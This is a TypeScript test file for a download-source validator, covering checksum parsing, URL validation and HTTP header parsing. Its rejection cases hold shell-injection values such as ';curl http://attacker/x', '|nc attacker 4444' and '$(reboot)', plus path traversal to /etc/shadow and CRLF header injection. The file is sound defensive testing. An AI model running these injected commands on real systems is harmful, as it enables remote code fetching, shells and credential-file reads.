import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  formatChecksum,
  parseChecksum,
  parseHttpHeader,
  validateDownloadUrl,
} from '../../../app/shared/validation/download-source.js';
import { InvalidInputError } from '../../../app/shared/validation/names.js';

const hex = (n: number) => 'aB'.repeat(n / 2);

test('checksums: {ALGORITHM}HEX with the right length, bare hex and {} are MD5', () => {
  const cases: [string, string, number][] = [
    ['MD5', 'md5', 32],
    ['SHA-1', 'sha1', 40],
    ['SHA-224', 'sha224', 56],
    ['SHA-256', 'sha256', 64],
    ['sha384', 'sha384', 96],
    ['SHA-512', 'sha512', 128],
  ];
  for (const [name, algorithm, length] of cases) {
    assert.deepEqual(parseChecksum(`{${name}}${hex(length)}`), {
      algorithm,
      hex: hex(length).toLowerCase(),
    });
    assert.throws(() => parseChecksum(`{${name}}${hex(length - 2)}`), InvalidInputError);
  }
  assert.equal(parseChecksum(hex(32)).algorithm, 'md5');
  assert.equal(parseChecksum(`{}${hex(32)}`).algorithm, 'md5');
  assert.equal(formatChecksum(parseChecksum(`{sha-256}${hex(64)}`)), `{SHA-256}${'ab'.repeat(32)}`);
});

test('malformed checksums are refused', () => {
  for (const bad of [
    hex(64), // bare hex is MD5: 64 digits is the wrong length
    `{SHA-257}${hex(64)}`,
    `{SHA-256}${hex(62)}zz`,
    '',
    `{MD5}`,
    `{MD5}${hex(32)}{x}`,
    `{{MD5}}${hex(32)}`,
  ]) {
    assert.throws(() => parseChecksum(bad), InvalidInputError, bad);
  }
});

test('only http and https URLs, nothing a shell could read', () => {
  for (const ok of [
    'http://127.0.0.1:8080/tmpl.qcow2',
    'https://mirror.example.org/images/debian-12.qcow2?token=abc&x=1',
    'HTTPS://example.org/a%20b.iso',
  ]) {
    assert.equal(validateDownloadUrl(ok), ok);
  }
  for (const bad of [
    // the formats doc's injection cases
    'nfs://10.0.0.1/a;curl http://attacker/x',
    'http://10.0.0.1/a;curl http://attacker/x',
    'http://10.0.0.1/export/$(reboot)',
    'http://10.0.0.1/export/`reboot`',
    'http://10.0.0.1/export/a|nc attacker 4444',
    'nfs://-oremount/export/tmpl.qcow2',
    'http://-oremount/export/tmpl.qcow2',
    'http://10.0.0.1/export/../../etc/shadow',
    'http://10.0.0.1/export/%2e%2e/etc/shadow',
    // and the like
    'file:///etc/shadow',
    'ftp://example.org/x.iso',
    '-o/tmp/x http://example.org/',
    'http://example.org/a\nb',
    'http://example.org/a b',
    'http://example.org/{a,b}.qcow2',
    'http://example.org/[1-9].qcow2',
    "http://example.org/a'b",
    'http://user:secret@example.org/x.qcow2',
    'http:/example.org/x.qcow2',
    'example.org/x.qcow2',
  ]) {
    assert.throws(() => validateDownloadUrl(bad), InvalidInputError, bad);
  }
});

test('URLs with characters outside printable ASCII are refused: percent-encode them', () => {
  for (const bad of [
    'http://127.0.0.1/x.iso\ud800',
    'http://127.0.0.1/x\u202eosi.iso',
    'http://127.0.0.1/a\u200bb.iso',
    'http://127.0.0.1/\uff04(id).iso',
    'http://127.0.0.1/\u00e9.iso',
    'http://127.0.0.1/a\u0085b',
  ]) {
    assert.throws(() => validateDownloadUrl(bad), InvalidInputError, JSON.stringify(bad));
  }
  assert.equal(validateDownloadUrl('http://127.0.0.1/%C3%A9.iso'), 'http://127.0.0.1/%C3%A9.iso');
});

test('headers: NAME:VALUE on one line', () => {
  assert.deepEqual(parseHttpHeader('X-Token: abc:def '), { name: 'X-Token', value: 'abc:def' });
  for (const bad of [
    'X-Token: a\r\nHost: evil',
    'X-Token: a\nb',
    'X-Token\r: a',
    ': novalue',
    'no colon',
    'Bad Name: x',
    'X-Token: a\u0000b',
  ]) {
    assert.throws(() => parseHttpHeader(bad), InvalidInputError, JSON.stringify(bad));
  }
});
